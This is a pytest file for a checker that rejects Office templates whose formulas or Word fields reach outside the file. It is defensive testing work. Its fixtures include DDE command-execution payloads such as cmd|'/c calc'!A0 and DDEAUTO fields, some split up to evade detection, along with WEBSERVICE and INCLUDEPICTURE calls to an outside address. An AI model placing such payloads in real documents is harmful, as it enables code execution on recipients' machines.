"""A template that would reach for programs, files or websites is refused, naming what does."""

from html import escape
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from core.open_xml import NotTaken, checked
from tests.core.documents_made import document, paragraph
from tests.core.house import OFFICERS, House
from tests.core.test_open_xml import rewritten
from tests.core.test_stencils import AT, sent
from tests.core.workbooks_made import content_of, made

ADDRESS = "http://x.test/a"
ACTIVE = [
    ("cmd|'/c calc'!A0", "DDE"),
    ("'cmd'|'/c calc'!A0", "DDE"),
    (f'_xlfn.WEBSERVICE("{ADDRESS}?"&A1)', "WEBSERVICE"),
    (f'_xlfn.image ("{ADDRESS}")', "IMAGE"),
    ('RTD("x.y",,"z")', "RTD"),
    ("[1]预算!A1+1", "[1]预算!"),
    ("SUM('C:\\a\\[预算.xlsx]一月'!A1:A9)", "[预算.xlsx]一月"),
    ("[1]!总数", "[1]!"),
]
QUIET = [
    "SUM(A1:A3)*'一月|二月'!B2",
    'COUNTIF(表1[姓名],"a|b")+表1[[#This Row],[年龄]]*Sheet1!A1',
    'IF(A1="[1]x!","见 WEBSERVICE(","无")',
    'HYPERLINK("https://x.test/","官网")',
]


def field(*pieces: str) -> str:
    """Return a field of Word; `{` and `}` among the pieces of its code begin and end others."""
    signs = {"{": "begin", "}": "end"}
    runs = [
        f'<w:r><w:fldChar w:fldCharType="{signs[each]}"/></w:r>'
        if each in signs
        else f'<w:r><w:instrText xml:space="preserve">{escape(each)}</w:instrText></w:r>'
        for each in ("{", *pieces, "}")
    ]
    return f"<w:p>{''.join(runs)}</w:p>"


def simple(code: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{escape(code)}"/></w:p>'


def refused(content: bytes, kind: str) -> str:
    with pytest.raises(NotTaken, match="active") as why:
        checked(content, "xlsx" if kind == "xlsx" else "docx", links=False)
    return why.value.told


def with_formula(formula: str) -> bytes:
    return made(["{{姓名}}", f"={formula}"])


@pytest.mark.parametrize(("formula", "told"), ACTIVE)
def test_a_formula_that_reaches_out_of_its_workbook_is_refused(formula: str, told: str) -> None:
    assert refused(with_formula(formula), "xlsx") == told
    assert checked(with_formula(formula), "xlsx"), "of a list only what stands in it is read"


@pytest.mark.parametrize("formula", QUIET)
def test_a_formula_within_its_workbook_is_taken(formula: str) -> None:
    assert checked(with_formula(formula), "xlsx", links=False)


def test_a_name_a_rule_and_a_link_of_its_own_kind_are_looked_at_as_well() -> None:
    book = load_workbook(BytesIO(made(["x"])))
    book.defined_names["a"] = DefinedName("a", attr_text="cmd|'/c calc'!A0")
    assert refused(content_of(book), "xlsx") == "DDE"
    book = Workbook()
    book.worksheets[0].add_data_validation(
        DataValidation("list", formula1="[1]x!A1:A9", sqref="A1")
    )
    assert refused(content_of(book), "xlsx") == "[1]x!"
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert refused(rewritten({"xl/externalLinks/externalLink1.xml": link}), "xlsx") == "DDE"


@pytest.mark.parametrize(
    ("written", "told"),
    [
        (field(' DDEAUTO c:\\\\a.exe "x" '), "DDEAUTO"),
        (field(" D", "DE", " Excel"), "DDE"),
        (field("dde", "{", " PAGE ", "}", "auto x"), "DDEAUTO"),
        (simple("DDE Excel a b"), "DDE"),
        (field(f'INCLUDEPICTURE "{ADDRESS}"'), "INCLUDEPICTURE"),
        (field("INCLUDEPICTURE ", "{", f'QUOTE "{ADDRESS}"', "}"), "INCLUDEPICTURE"),
        (simple('INCLUDETEXT "\\\\\\\\x\\\\a.docx"'), "INCLUDETEXT"),
        (field("DDE x").replace('<w:fldChar w:fldCharType="end"/>', ""), "DDE"),
    ],
)
def test_a_field_that_reaches_out_of_its_document_is_refused(written: str, told: str) -> None:
    assert refused(document(paragraph("{{姓名}}"), written), "docx") == told
    assert refused(document(paragraph("{{姓名}}"), footer1=document_part(written)), "docx") == told


def document_part(written: str) -> str:
    uri = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return f'<w:ftr xmlns:w="{uri}">{written}</w:ftr>'


@pytest.mark.parametrize(
    "written",
    [
        field(" PAGE \\* MERGEFORMAT "),
        field('HYPERLINK "http://x.test/DDE"'),
        field('INCLUDEPICTURE "C:\\\\Users\\\\a.png" \\* MERGEFORMATINET'),
        simple('DATE \\@ "yyyy年M月d日"'),
        paragraph("DDEAUTO 和 =WEBSERVICE(") + paragraph("|x|"),
    ],
)
def test_a_field_within_its_document_is_taken(written: str) -> None:
    assert checked(document(paragraph("{{姓名}}"), written), "docx", links=False)


@pytest.mark.parametrize(
    ("content", "name", "told"),
    [
        (document(paragraph("{{姓名}}"), field("DDEAUTO x")), "a.docx", "DDEAUTO"),
        (with_formula(f'_xlfn.WEBSERVICE("{ADDRESS}")'), "a.xlsx", "WEBSERVICE"),
    ],
)
def test_the_page_names_what_was_found(house: House, content: bytes, name: str, told: str) -> None:
    client = house.client(OFFICERS["county"])
    page = sent(client, AT, content, name)
    assert page.status_code == 422
    assert f"“{told}”，打开时会自己去连别的程序、文件或网站" in page.text
    client.set_cookie("lang", "en")
    assert f"This file holds “{told}”" in sent(client, AT, content, name).text
